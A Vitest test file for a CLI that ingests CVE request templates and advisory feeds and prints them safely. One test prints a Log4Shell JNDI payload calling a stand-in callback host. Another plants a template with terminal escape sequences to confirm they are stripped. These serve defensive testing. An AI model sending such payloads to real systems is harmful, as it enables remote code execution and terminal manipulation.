import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { instant } from '#kernel';
import { fixedClock } from '#platform/runtime';
import { fixtures as kev } from '../support/advisories/kev.ts';
import { type CliBench, cliBench } from '../support/cli.ts';

const SAMPLE = new URL('../../samples/knowledge', import.meta.url).pathname;

let bench: CliBench;
beforeEach(async () => {
  bench = await cliBench(fixedClock(instant('2026-11-26T00:00:00Z')));
});
afterEach(() => bench.close());

describe('yagura knowledge', () => {
  it('update learns from a checkout, and says when nothing changed', async () => {
    const first = await bench.run('knowledge', 'update', '--from', SAMPLE);
    expect(first).toMatchObject({
      code: 0,
      out: expect.stringMatching(
        /^5 CVEs from 5 of 5 files \(Apache-2\.0, sha256:[0-9a-f]{12}\): 5 written, 0 removed\n$/,
      ),
    });
    expect((await bench.run('knowledge', 'update', '--from', SAMPLE)).out).toMatch(
      /^nothing changed: 5 CVEs of sha256:/,
    );
    expect(JSON.parse((await bench.run('knowledge', 'update', '--from', SAMPLE, '--json')).out)).toMatchObject({
      written: 0,
      packs: 5,
    });
  });

  it('update needs a folder that exists', async () => {
    expect(await bench.run('knowledge', 'update')).toMatchObject({ code: 3, err: expect.stringContaining('--from') });
    expect(await bench.run('knowledge', 'update', '--from', join(bench.folder, 'absent'))).toMatchObject({ code: 5 });
  });

  it('ls says how to begin, then lists what is known', async () => {
    expect((await bench.run('knowledge', 'ls')).out).toContain('yagura knowledge update --from');
    await bench.run('knowledge', 'update', '--from', SAMPLE);
    expect((await bench.run('knowledge', 'ls')).out).toMatch(
      /5 CVEs of .*\n[\s\S]*CVE-2025-55182 +critical +1 +1 +0 +0 +React/,
    );
    expect((await bench.run('knowledge', 'ls', '--lang', 'ja')).out).toContain('手口');
    const { items, collection } = JSON.parse((await bench.run('knowledge', 'ls', '--limit', '2', '--json')).out);
    expect([items.length, collection.licence]).toEqual([2, 'Apache-2.0']);
  });

  it('show prints the requests of a CVE, and nothing a terminal would obey', async () => {
    const folder = join(bench.folder, 'checkout');
    cpSync(SAMPLE, folder, { recursive: true });
    writeFileSync(
      join(folder, 'cves', 'hostile.yaml'),
      'id: CVE-2020-0001\ninfo: {name: "\\e[31mred"}\nhttp: [{method: POST, path: ["{{BaseURL}}/{{token}}"], body: "{{hex_decode(\'1b5b324a\')}}", extractors: [{name: token}]}]\n',
    );
    await bench.run('knowledge', 'update', '--from', folder);
    const log4j = await bench.run('knowledge', 'show', 'cve-2021-44228');
    expect(log4j.out).toContain('  X-Api-Version: ${jndi:ldap://callback.example.com/');
    expect(log4j.out).toContain('Yagura never sends it');
    const hostile = await bench.run('knowledge', 'show', 'CVE-2020-0001');
    expect(hostile.out).not.toContain('\u001b');
    expect(hostile.out).toContain('only a response can give: token');
    expect(JSON.parse((await bench.run('knowledge', 'show', 'CVE-2021-41773', '--json')).out).variants).toHaveLength(2);
    expect((await bench.run('knowledge', 'show', 'CVE-2022-22965')).out).toContain('steps of one attack');
    expect(await bench.run('knowledge', 'show', 'CVE-1999-0001')).toMatchObject({ code: 5 });
  });

  it('fetch reads a mirror, ls shows how old each source is', async () => {
    const mirror = join(bench.folder, 'mirror');
    mkdirSync(join(mirror, 'kev'), { recursive: true });
    writeFileSync(join(mirror, 'kev/known_exploited_vulnerabilities.json'), kev[0]?.text ?? '');
    expect((await bench.run('knowledge', 'ls')).out).toContain('no advisories yet: run `yagura knowledge fetch`');
    expect(await bench.run('knowledge', 'fetch', '--mirror', mirror)).toMatchObject({
      code: 0,
      out: 'kev catalogue: left out no-cve 1\n',
      err: expect.stringContaining('facts about 1 CVEs in 1 feeds'),
    });
    expect((await bench.run('knowledge', 'ls')).out).toMatch(
      /kev +catalogue +read +0 +1 +2026-11-25 +2026-11-26T00:00 +0 h/,
    );
    expect((await bench.run('knowledge', 'ls', '--lang', 'ja')).out).toMatch(/kev +catalogue +取得済み/);
    expect(JSON.parse((await bench.run('knowledge', 'ls', '--json')).out).feeds).toMatchObject([
      { source: 'kev', facts: 1 },
    ]);
    writeFileSync(join(mirror, 'kev/known_exploited_vulnerabilities.json'), '\u001b[31m');
    mkdirSync(join(mirror, 'osv/npm'), { recursive: true });
    writeFileSync(join(mirror, 'osv/npm/all.zip'), 'no archive');
    expect(await bench.run('knowledge', 'fetch', '--mirror', mirror)).toMatchObject({
      code: 7,
      out: expect.stringContaining('osv npm failed:'),
    });
  });

  it('fetch needs a source and a mirror that exist', async () => {
    expect(await bench.run('knowledge', 'fetch', '--source', 'nvd')).toMatchObject({
      code: 3,
      err: expect.stringContaining('alas, alpine, debian'),
    });
    expect(await bench.run('knowledge', 'fetch', '--mirror', join(bench.folder, 'absent'))).toMatchObject({ code: 5 });
  });
});
